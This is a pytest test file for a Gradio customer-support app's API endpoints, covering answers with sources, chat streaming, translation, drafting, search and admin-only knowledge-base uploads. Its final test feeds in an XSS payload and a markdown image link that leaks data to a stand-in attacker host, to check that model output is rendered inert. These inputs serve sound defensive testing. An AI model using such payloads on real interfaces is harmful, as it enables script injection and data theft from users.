"""The app's named endpoints through gradio_client against a live app with scripted collaborators."""

import pytest
from gradio_client import handle_file

from ui.render import answer_messages, safe, sources_markdown
from service.sources import Source
from service.errors import BackendUnavailableError
from tests.app.conftest import ADMIN
from tests.conftest import REPO

pytestmark = [
    pytest.mark.slow,  # a live app
    pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore:.*:Warning:gradio.queueing"),
]

ENDPOINTS = {"/ask", "/answer", "/chat", "/translate", "/generate", "/search", "/feedback", "/handoff", "/messages",
             "/kb_login", "/kb_list", "/kb_upload", "/kb_remove"}


def test_named_endpoints_are_listed(app):
    named = app.client().view_api(print_info=False, return_format="dict")["named_endpoints"]
    assert ENDPOINTS <= set(named)


def test_ask_returns_the_answer_and_its_sources(app):
    answer, sources = app.client().predict("How long do I have to return an item?", api_name="/ask")
    assert answer == "Returns are free within 30 days [1]."
    assert sources[0]["title"] == "Returns and refunds" and sources[0]["source"] == "returns.md"
    assert {"number", "title", "snippet", "source", "doc_id", "score"} <= set(sources[0])


def test_answer_says_what_kind_of_answer_it_is(app):
    from tests.fakes import FAQ_RETURNS, RETURNS

    client = app.client()
    result = client.predict("Can I return my order?", api_name="/answer")
    assert result["status"] == "generated" and result["text"] == "Returns are free within 30 days [1]."
    assert result["sources"][0]["doc_id"] == "returns.md"
    app.retriever.by_keyword["return an item"] = [FAQ_RETURNS, RETURNS]
    result = client.predict("How long do I have to return an item?", api_name="/answer")
    assert result["status"] == "faq" and result["text"].startswith("You can return most items within 30 days")
    assert len(app.backend.requests) == 1  # the FAQ answer needed no model call
    app.backend.enqueue("Returns are free within 3 days [1].")
    result = client.predict("Can I return my order?", api_name="/answer")
    assert result["status"] == "extractive" and "3 days" not in result["text"] and "30 days" in result["text"]
    app.retriever.by_keyword["VoltCare"] = []
    result = client.predict("Does VoltCare cover water damage?", api_name="/answer")
    assert result["status"] == "no_answer" and "person" in result["text"] and result["sources"] == []
    result = client.predict("x" * 501, api_name="/answer")
    assert result["status"] == "rejected" and "limit is 500" in result["text"]


def test_ask_takes_the_model_generation_settings_and_k_over_the_api(app):
    client = app.client()
    client.predict("How long do I have to return an item?", model="support", temperature=0.0, max_tokens=17, k=1, api_name="/ask")
    messages, params = app.backend.requests[-1]
    assert (params.model, params.temperature, params.max_tokens) == ("support", 0.0, 17)
    assert "Returns and refunds" in messages[-1]["content"] and "Warranty" not in messages[-1]["content"]  # k = 1
    client.predict("How long do I have to return an item?", api_name="/ask")
    messages, params = app.backend.requests[-1]
    assert params.model is None and params.max_tokens == 256  # the defaults
    assert "Warranty" in messages[-1]["content"]


def test_an_unknown_model_over_the_api_is_a_clear_error(app):
    from gradio_client.exceptions import AppError

    with pytest.raises(AppError, match="Unknown model 'gpt-9'; choose one of scripted, support"):
        app.client().predict("Hello?", "gpt-9", api_name="/ask")
    assert app.backend.requests == []


def test_chat_streams_and_uses_the_history(app):
    app.backend.enqueue("Yes, returns are free.")
    history = [{"role": "user", "content": "Can I return headphones?"}, {"role": "assistant", "content": "Yes, within 30 days."}]
    job = app.client().submit("Is it free?", history, api_name="/chat")
    steps = [text for text, _ in job]
    # It opens with nothing (so that a client leaving at once stops it), then arrives in several pieces.
    assert steps[0] == "" and len(steps) >= 3 and steps[1] != steps[-1]
    text, sources = job.result()
    assert text == "Yes, returns are free. [1]" and sources  # uncited: the passage holding it is cited
    messages = app.backend.requests[-1][0]
    assert [m["role"] for m in messages] == ["system", "user", "assistant", "user"]


def test_translate_keeps_glossary_terms_in_the_prompt(app):
    app.backend.enqueue("您的 Voltway Aria X2 可以退款。")
    out = app.client().predict("Your Voltway Aria X2 can be refunded.", "zh", "auto", api_name="/translate")
    assert out == "您的 Voltway Aria X2 可以退款。"
    user = app.backend.requests[-1][0][-1]["content"]
    assert "Voltway Aria X2" in user.split("<text>")[0] and "退款" in user
    # "auto" as the target: a Chinese text goes into English.
    app.backend.enqueue("My order has not shipped yet.")
    assert app.client().predict("我的订单还没发货。", "auto", "auto", api_name="/translate") == "My order has not shipped yet."
    assert "from Chinese (Simplified) into English" in app.backend.requests[-1][0][0]["content"]


def test_generate_drafts_from_retrieved_facts(app):
    app.backend.enqueue("Dear customer, returns are free within 30 days.")
    text, sources = app.client().predict("reply_email", "Is returning my order free?", "empathetic", api_name="/generate")
    assert text.startswith("Dear customer") and sources[0]["doc_id"] == "returns.md"
    assert "<passages>" in app.backend.requests[-1][0][-1]["content"]
    # A figure its facts do not state comes back marked for the person who sends it.
    app.backend.enqueue("Dear customer, returns are free within 30 days and cost £4.99 to post.")
    text, _ = app.client().predict("reply_email", "Is returning my order free?", "friendly", api_name="/generate")
    assert text == "Dear customer, returns are free within 30 days and cost [check: £4.99] to post."


def test_search_returns_ranked_passages(app):
    hits = app.client().predict("returns", 1, api_name="/search")
    assert [h["doc_id"] for h in hits] == ["returns.md"] and app.backend.requests == []


def test_too_long_input_is_refused_before_the_model(app):
    answer, sources = app.client().predict("x" * 501, api_name="/ask")
    assert "limit is 500" in answer and sources == [] and app.backend.requests == []


def test_backend_error_is_a_friendly_message_not_a_traceback(app):
    app.backend.enqueue(BackendUnavailableError("Cannot reach the model server at http://127.0.0.1:9; start it."))
    answer, _ = app.client().predict("How long do I have to return an item?", api_name="/ask")
    assert answer.startswith("Sorry, I could not answer just now") and "Cannot reach the model server" in answer


def test_knowledge_base_endpoints_require_the_admin_login(app, tmp_path):
    from gradio_client.exceptions import AppError

    client = app.client()
    with pytest.raises(AppError, match="Log in as an administrator"):
        client.predict(api_name="/kb_list")
    message = login(client, "admin", "wrong")
    assert "Wrong" in message
    with pytest.raises(AppError, match="Log in"):
        client.predict([handle_file(str(REPO / "samples" / "kb" / "trade-in.md"))], api_name="/kb_upload")
    assert app.kb.documents() == []
    # Another session that logs in can manage the knowledge base; the first one still cannot.
    admin = app.client()
    message = login(admin, *ADMIN)
    assert "Logged in" in message
    status, table = admin.predict(
        [handle_file(str(REPO / "samples" / "kb" / "trade-in.md")), handle_file(str(REPO / "samples" / "kb" / "faq.csv"))],
        api_name="/kb_upload",
    )
    assert "Ingested 2 file(s)" in status and "failed 0" in status
    ids = [row[0] for row in table["data"]]
    assert "trade-in.md" in ids and len(ids) > 30  # the FAQ table holds one document per row
    status, table = admin.predict("trade-in.md", api_name="/kb_remove")
    assert "Removed" in status and "trade-in.md" not in [row[0] for row in table["data"]]
    assert "trade-in.md" not in [d.doc_id for d in app.kb.documents()]
    with pytest.raises(AppError, match="No document"):
        admin.predict("no-such-doc", api_name="/kb_remove")
    with pytest.raises(AppError, match="Log in"):
        client.predict("faq-returns-cost", api_name="/kb_remove")


def test_model_output_is_rendered_inert():
    evil = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
    messages = answer_messages(evil, [Source(1, "<b>T</b>", "<script>x</script>", "a.md", "a")], "generated")
    rendered = "\n".join(m["content"] for m in messages)
    assert "<img" not in rendered and "<script" not in rendered and "<b>" not in rendered
    assert "&lt;img src=x" in rendered and "**Sources**" in sources_markdown([Source(1, "T", "s", "a.md", "a")])
    assert safe("a < b & c") == "a &lt; b &amp; c"
    assert safe("see ![x](http://evil.example/leak?q=secret)") == "see !\\[x](http://evil.example/leak?q=secret)"


def login(client, user, password) -> str:
    """The status message of /kb_login (the session state it sets stays on the server)."""
    result = client.predict(user, password, api_name="/kb_login")
    return next(r for r in (result if isinstance(result, (list, tuple)) else [result]) if isinstance(r, str))
